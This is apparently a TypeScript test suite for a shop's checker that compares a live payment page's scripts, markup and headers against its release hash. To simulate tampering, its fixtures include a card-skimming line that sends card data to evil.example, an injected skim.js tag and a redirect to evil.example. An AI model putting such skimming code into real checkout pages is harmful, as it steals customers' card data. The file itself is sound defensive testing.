import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import type { RequestListener } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { brotliCompressSync } from "node:zlib";
import { pino } from "pino";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { pageTable } from "../../app/pages.ts";
import { onDatabases } from "../../tests/support/databases.ts";
import type { TestDatabase } from "../../tests/support/databases.ts";
import { startProvider } from "../../tests/support/provider.ts";
import type { Provider } from "../../tests/support/provider.ts";
import { testShop } from "../../tests/support/shop.ts";
import type { TestShop } from "../../tests/support/shop.ts";
import { pageServer } from "../http/page-server.ts";
import { readPages } from "../http/pages.ts";
import { paymentPageHeaders } from "../http/payment-page.ts";
import { createMetrics } from "../http/metrics.ts";
import { activeParts, createPaymentPageGateway, sha256 } from "../providers/payment-page.ts";
import { createCheckPaymentPage } from "./payment-page.ts";
import { readFigures } from "../http/figures.ts";
import { readPaymentPageWatch } from "../../tests/support/payment-page-watch.ts";
import { createCorrectTimes } from "../jobs/correct-times.ts";

const MINUTE = 60 * 1000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;
const PROVIDER_SCRIPT = "/sandbox/paystack/v1/inline.js";
const SCRIPT = "/assets/entry-1a2b.js";
const LATER_SCRIPT = "/assets/wake-3c4d.js";
const HTML = `<!DOCTYPE html><title>Checkout</title><script type="module" async src="${SCRIPT}"></script>
  <div data-island="checkout" data-props="{&quot;scriptUrl&quot;:&quot;${PROVIDER_SCRIPT}&quot;}"></div>`;
const security = {
  publicUrl: "http://localhost:3000",
  paystack: { scriptUrl: PROVIDER_SCRIPT },
  ...pageTable,
};

onDatabases("looking at the payment page on $name", ({ open }) => {
  let database: TestDatabase;
  let shop: TestShop;
  let folder: string;
  let front: RequestListener;
  let server: Provider;
  let providerCode: string;
  let logged: { level: number; msg: string }[];
  beforeAll(async () => {
    database = await open();
  });
  afterAll(() => database.close());
  beforeEach(async () => {
    await database.db.deleteFrom("payment_page_checks").execute();
    await database.db.deleteFrom("job_leases").execute();
    logged = [];
    const log = { write: (line: string) => void logged.push(JSON.parse(line)) };
    shop = testShop(database.db, pino({ level: "info" }, log));
    folder = mkdtempSync(join(tmpdir(), "hazelzuri-"));
    mkdirSync(join(folder, "assets"));
    mkdirSync(join(folder, "checkout"));
    write("checkout/index.html", HTML);
    write(SCRIPT, "import('./wake-3c4d.js')");
    write(LATER_SCRIPT, "export const wakeAll = 1");
    providerCode = "PaystackPop = {}";
    serve();
    server = await startProvider((request, response) => front(request, response));
  });
  afterEach(async () => {
    await server.close();
    rmSync(folder, { recursive: true });
  });

  /** Writes what the build would: the file, and its compressed version, which is sent. */
  const write = (name: string, text: string) => {
    writeFileSync(join(folder, name), text);
    writeFileSync(join(folder, `${name}.br`), brotliCompressSync(text));
  };
  /** Restarts the shop, which reads its files once at start. `between` acts as a proxy in front of it. */
  const serve = (between: RequestListener = () => {}) => {
    const files = readPages(folder, security, security.publicUrl);
    const pages = pageServer((path) => files.get(path)?.page);
    front = (request, response) => {
      between(request, response);
      if (response.writableEnded) return;
      if (request.url === PROVIDER_SCRIPT) return response.end(providerCode);
      pages(request, response, () => response.writeHead(404).end());
    };
  };
  const hashOf = (name: string) => sha256(readFileSync(join(folder, name)));
  const expected = {
    headers: paymentPageHeaders(security),
    active: activeParts(HTML),
    providerScripts: [PROVIDER_SCRIPT],
  };
  /** The check of a process that was started ten minutes ago. */
  const process = (release = "1a2b3c", timeoutMs = 5_000) => {
    const files = {
      [SCRIPT]: released[SCRIPT] ?? "",
      [LATER_SCRIPT]: released[LATER_SCRIPT] ?? "",
    };
    const gateway = createPaymentPageGateway({
      origin: server.url,
      providerScript: server.url + PROVIDER_SCRIPT,
      timeoutMs,
    });
    const paymentPage = { release, expected: { ...expected, files }, gateway };
    const check = createCheckPaymentPage({ ...shop.ports, paymentPage });
    later(10 * MINUTE);
    return check;
  };
  let released: Record<string, string>;
  beforeEach(() => {
    released = { [SCRIPT]: hashOf(SCRIPT), [LATER_SCRIPT]: hashOf(LATER_SCRIPT) };
  });
  const later = (ms: number) => {
    shop.world.now = new Date(shop.world.now.getTime() + ms);
  };
  const watch = () => readPaymentPageWatch(database.db);
  const newest = async () => (await watch()).checks[0];
  const differing = async () => (await newest())?.detail.differences?.map(({ what }) => what);

  test("what was released is found to be the same, once a day, one row a day", async () => {
    const check = process();
    expect(await check()).toBe("same");
    const at = shop.world.now.toISOString();
    expect(await watch()).toEqual({
      lastGoodAt: at,
      checks: [
        {
          release: "1a2b3c",
          outcome: "same",
          detail: {},
          providerScript: sha256(providerCode),
          firstAt: at,
          lastAt: at,
          times: 1,
        },
      ],
      reports: [],
    });
    later(DAY - 1);
    expect(await check()).toBe("idle");
    later(1);
    expect(await check()).toBe("same");
    expect((await watch()).checks).toHaveLength(2);
  });

  test("every script is looked at as it is served: an altered one is named", async () => {
    // Has no effect on a running shop: it serves its files from memory.
    write(LATER_SCRIPT, "fetch('https://evil.example/' + card)");
    const check = process();
    expect(await check()).toBe("same");
    serve();
    later(DAY);
    expect(await check()).toBe("changed");
    const { differences } = (await newest())?.detail ?? {};
    expect(differences).toEqual([
      {
        what: `file ${LATER_SCRIPT}`,
        expected: released[LATER_SCRIPT],
        found: hashOf(LATER_SCRIPT),
      },
    ]);
    const errors = logged.filter(({ level }) => level === 50);
    expect(errors.map(({ msg }) => msg)).toEqual(["The payment page is not the release's"]);
  });

  test("a script that the page was given is named, and so is one that is gone", async () => {
    write(
      "checkout/index.html",
      HTML.replace("<div", "<script src='/assets/skim.js'></script><div"),
    );
    write("assets/skim.js", "1");
    rmSync(join(folder, LATER_SCRIPT));
    rmSync(join(folder, `${LATER_SCRIPT}.br`));
    serve();
    expect(await process()()).toBe("changed");
    expect(await differing()).toEqual(["markup", `file ${LATER_SCRIPT}`, "file /assets/skim.js"]);
  });

  test.each([
    ["Content-Security-Policy", "script-src *"],
    ["Permissions-Policy", "payment=*"],
    ["Refresh", "0;url=https://evil.example"],
    ["Access-Control-Allow-Origin", "*"],
  ])("a proxy's own %s is noticed", async (name, value) => {
    serve(({ url }, response) => {
      if (url !== "/checkout") return;
      const writeHead = response.writeHead.bind(response);
      const adding = (status: number, headers: string[]) =>
        writeHead(status, [...headers, name, value]);
      response.writeHead = adding as typeof response.writeHead;
    });
    expect(await process()()).toBe("changed");
    expect(await differing()).toEqual([`header ${name.toLowerCase()}`]);
  });

  test("a page that leads elsewhere is changed, not away", async () => {
    serve((_request, response) => {
      response.writeHead(302, { Location: "https://evil.example/checkout" }).end();
    });
    expect(await process()()).toBe("changed");
    const parts = (await newest())?.detail.differences?.map(({ found }) => found).join("\n");
    expect(parts).toContain("status 302 https://evil.example/checkout");
    expect(server.requests.every(({ headers }) => headers.host === new URL(server.url).host)).toBe(
      true,
    );
  });

  test("a shop out of reach is a result of its own, asked again in an hour", async () => {
    serve((_request, response) => void response.writeHead(503).end());
    const check = process();
    expect(await check()).toBe("unreachable");
    expect(await newest()).toMatchObject({ detail: { reason: "status 503" }, times: 1 });
    expect((await watch()).lastGoodAt).toBeUndefined();
    expect(await check()).toBe("idle");
    later(HOUR);
    expect(await check()).toBe("unreachable");
    expect((await watch()).checks).toMatchObject([{ times: 2 }]);
    serve();
    later(HOUR);
    expect(await check()).toBe("same");
    expect((await watch()).checks.map(({ outcome }) => outcome)).toEqual(["same", "unreachable"]);
  });

  test("a shop that does not answer is not waited for", async () => {
    front = () => {};
    expect(await process("1a2b3c", 50)()).toBe("unreachable");
    expect((await newest())?.detail).toEqual({ reason: "TimeoutError" });
  });

  test("a changed page is looked at every hour, until it is the release's again", async () => {
    write(SCRIPT, "skim()");
    serve();
    const check = process();
    for (let hour = 0; hour < 3; hour++) {
      expect(await check()).toBe("changed");
      later(HOUR);
    }
    expect((await watch()).checks).toMatchObject([{ outcome: "changed", times: 3 }]);
    write(SCRIPT, "import('./wake-3c4d.js')");
    serve();
    expect(await check()).toBe("same");
  });

  test("of several processes one looks", async () => {
    const processes = Array.from({ length: 6 }, () => process());
    const results = await Promise.all(processes.map((check) => check()));
    expect(results.toSorted()).toEqual([...Array(5).fill("idle"), "same"]);
    expect((await watch()).checks).toMatchObject([{ times: 1 }]);
  });

  test("a process waits five minutes, and a new release does not wait for the old one's day", async () => {
    expect(await process()()).toBe("same");
    const next = process("4d5e6f");
    expect(await next()).toBe("same");
    const justStarted = createCheckPaymentPage({
      ...shop.ports,
      paymentPage: {
        release: "7a8b9c",
        expected: { ...expected, files: {} },
        gateway: createPaymentPageGateway({ origin: "http://127.0.0.1:9", providerScript: "" }),
      },
    });
    expect(await justStarted()).toBe("waiting");
    later(5 * MINUTE - 1);
    expect(await justStarted()).toBe("waiting");
    later(1);
    expect(await justStarted()).toBe("unreachable");
  });

  test("a clock that was put back puts nothing off", async () => {
    const check = process();
    await check();
    later(-3 * DAY);
    await createCorrectTimes(shop.ports)();
    expect(await check()).toBe("same");
  });

  test("the card provider's new script is told of, and is no fault", async () => {
    const check = process();
    await check();
    providerCode = "PaystackPop = { version: 2 }";
    later(DAY);
    expect(await check()).toBe("same");
    expect(await newest()).toMatchObject({ providerScript: sha256(providerCode) });
    const warnings = logged.filter(({ level }) => level === 40).map(({ msg }) => msg);
    expect(warnings).toEqual(["The card provider's script has changed"]);
  });

  test("development has nothing to compare with", async () => {
    expect(await createCheckPaymentPage(shop.ports)()).toBe("off");
  });

  test("the metrics tell how the last look ended, and how old the last good one is", async () => {
    const text = () => createMetrics(".").text(() => readFigures(database.db, shop.world.now));
    expect(await text()).not.toContain("shop_payment_page");
    const check = process();
    await check();
    write(SCRIPT, "skim()");
    serve();
    later(DAY);
    await check();
    const told = await text();
    expect(told).toContain('shop_payment_page{outcome="changed"} 1\n');
    expect(told).toContain('shop_payment_page{outcome="same"} 0\n');
    expect(told).toContain("shop_payment_page_seen_good_seconds 86400\n");
    expect(told).toContain('shop_policy_reports{refused="script"} 0\n');
  });
});
